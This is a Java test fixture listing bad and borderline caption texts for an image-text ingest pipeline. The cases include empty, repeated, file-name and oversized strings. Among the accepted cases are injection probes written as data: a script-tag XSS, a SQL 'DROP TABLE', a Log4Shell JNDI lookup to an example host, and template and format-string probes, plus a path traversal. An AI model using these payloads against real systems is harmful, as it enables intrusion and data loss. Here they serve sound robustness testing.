package dev.capstan.ingest;

import static dev.capstan.ingest.BadInput.ACCEPTED;

import java.util.ArrayList;
import java.util.List;

/** Texts beside a good picture. */
final class BadTexts {
    private static final int TEN_MEGABYTES = 10_000_000;

    private BadTexts() {}

    static List<BadInput> all() {
        List<BadInput> cases = new ArrayList<>();
        add(
                cases,
                "text-empty",
                "",
                " ",
                "\t\r\n",
                "\u0000",
                "\u0000\u0001\u0002\u001f\u007f",
                "\u0080\u009f",
                "\ufeff",
                "\u200b\u200b",
                "\u200e\u200f",
                "\u202a\u202b\u202c\u202d\u202e",
                "\u2066\u2067\u2068\u2069",
                "\u00a0",
                "\u3000\u2003",
                "\u00ad",
                "\u2028\u2029",
                "\ud800",
                "\udfff\udfff",
                "\u2060");
        add(cases, "text-too-short", "a", "\u732b", "\ud83d\ude00", "e\u0301", " x ", "\u0000y\u0000", ".");
        add(cases, "text-too-few-words", "...", "?!", "\ud83d\ude00\ud83d\ude02", "--", "\u2603\u2604", "()[]{}");
        add(
                cases,
                "text-repeated-characters",
                "aaaaaaaaaa",
                "!!!!!!!!!!!!",
                "xxxxxxxxxxxxxxxx",
                "0000000000",
                "hahahahaha".replace('h', 'a'),
                "\u732b".repeat(20),
                "__________________",
                "\u0e01".repeat(30),
                "==========");
        add(
                cases,
                "text-repeated-words",
                "buy now ".repeat(10),
                "cat ".repeat(20),
                "a b ".repeat(30),
                "sale sale sale sale sale sale sale sale sale",
                "ha ha ha ha ha ha ha ha ho");
        add(
                cases,
                "text-file-name",
                "IMG_1234.JPG",
                "img-1234",
                "DSC00012.jpg",
                "DSCN1234",
                "dscf0001.JPG",
                "P1010101.png",
                "image.png",
                "photo (1).jpeg",
                "Screenshot 2024-01-02",
                "untitled 3",
                "scan0001",
                "picture 12",
                "pict0042",
                "GOPR0123",
                "PXL_20240101_123456",
                "MVI_0001",
                "copy of photo.gif",
                "wallpaper_1920x1080.webp",
                "logo.svg",
                "favicon.ico",
                "20240102_123456",
                "1234567890",
                "12-34-56-78",
                "2024.01.02.03",
                "d41d8cd98f00b204e9800998ecf8427e",
                "550e8400-e29b-41d4-a716-446655440000",
                "https://example.org/a/b?c=d",
                "http://example.org",
                "HTTPS://EXAMPLE.ORG/",
                "www.example.org/cats",
                "a/b/c/cat.png",
                "..\\..\\cat.bmp",
                "cat.TIFF",
                "h\u00e9 h\u00e9.jpg");
        cases.add(BadInput.text("ten megabytes of letters", "ab".repeat(TEN_MEGABYTES / 2), "text-too-long"));
        cases.add(BadInput.text("ten megabytes of words", "word ".repeat(TEN_MEGABYTES / 5), "text-too-long"));
        cases.add(BadInput.text("ten megabytes of marks", "a" + "\u0301".repeat(TEN_MEGABYTES / 2), "text-too-long"));
        cases.add(BadInput.text("ten megabytes of emoji", "\ud83d\ude00".repeat(TEN_MEGABYTES / 4), "text-too-long"));
        cases.add(BadInput.text("ten megabytes of spaces", " ".repeat(TEN_MEGABYTES), "text-empty"));
        cases.add(BadInput.text("ten megabytes of nothing", "\u0000".repeat(TEN_MEGABYTES), "text-empty"));
        cases.add(BadInput.text("ten megabytes of half surrogates", "\ud83d".repeat(TEN_MEGABYTES / 2), "text-empty"));
        cases.add(BadInput.text(
                "ten megabytes of Hangul letters", "\u1112\u1161\u11ab".repeat(TEN_MEGABYTES / 9), "text-too-long"));
        cases.add(BadInput.text("ten megabytes of digits", "7".repeat(TEN_MEGABYTES), "text-too-long"));
        cases.add(BadInput.text(
                "ten megabytes in one address", "http://a/" + "x/".repeat(TEN_MEGABYTES / 2), "text-too-long"));
        cases.add(BadInput.text("a dog, then ten megabytes of spaces", "a dog" + " ".repeat(TEN_MEGABYTES), ACCEPTED));
        cases.add(
                BadInput.text("a character too many", "ab cd ef gh ".repeat(84).substring(0, 1001), "text-too-long"));
        add(
                cases,
                ACCEPTED,
                "a \u0000dog",
                "a dog\u202e gnp.",
                "a \ud800 dog and a cat",
                "caf\u00e9 in Paris",
                "cafe\u0301 in Paris",
                "<b>two dogs</b>",
                "<script>alert(1)</script>",
                "Tom &amp; Jerry",
                "'; DROP TABLE pairs;--",
                "${jndi:ldap://example.org/a}",
                "{{7*7}}",
                "%s%s%n dog",
                "a\tdog\r\nin\u2028the snow",
                "a\u00a0dog",
                "\ufeffa dog",
                "\ud83d\udc36 dog",
                "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 family",
                "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354lgo text",
                "\u5169\u96bb\u72d7",
                "\u72ac\u304c\u4e8c\u5339",
                "\u0e2b\u0e21\u0e32\u0e2a\u0e2d\u0e07\u0e15\u0e31\u0e27",
                "\u0643\u0644\u0628\u0627\u0646 \u0641\u064a \u0627\u0644\u062b\u0644\u062c",
                "\u05e9\u05e0\u05d9 \u05db\u05dc\u05d1\u05d9\u05dd",
                "\u0926\u094b \u0915\u0941\u0924\u094d\u0924\u0947",
                "\u0434\u0432\u0435 \u0441\u043e\u0431\u0430\u043a\u0438",
                "two dogs!!!",
                "DOGS DOGS",
                "dog.jpg of my dog",
                "see https://example.org for more dogs",
                "\u0130stanbul'da k\u00f6pek",
                "stra\u00dfe",
                "\ufb01lm of dogs",
                "\u1e9b\u0323 dog",
                "dog\u200bhouse",
                "a dog \ue000",
                "a dog \ufffd\ufffd",
                "ab",
                "\u732b\u72ac");
        return cases;
    }

    private static void add(List<BadInput> cases, String expected, String... texts) {
        for (String text : texts) {
            cases.add(BadInput.text("text <" + printable(text) + ">", text, expected));
        }
    }

    private static String printable(String text) {
        StringBuilder printable = new StringBuilder();
        text.chars().limit(40).forEach(unit -> {
            if (unit >= ' ' && unit < 0x7f) {
                printable.append((char) unit);
            } else {
                printable.append(String.format("\\u%04x", unit));
            }
        });
        return printable.toString();
    }
}
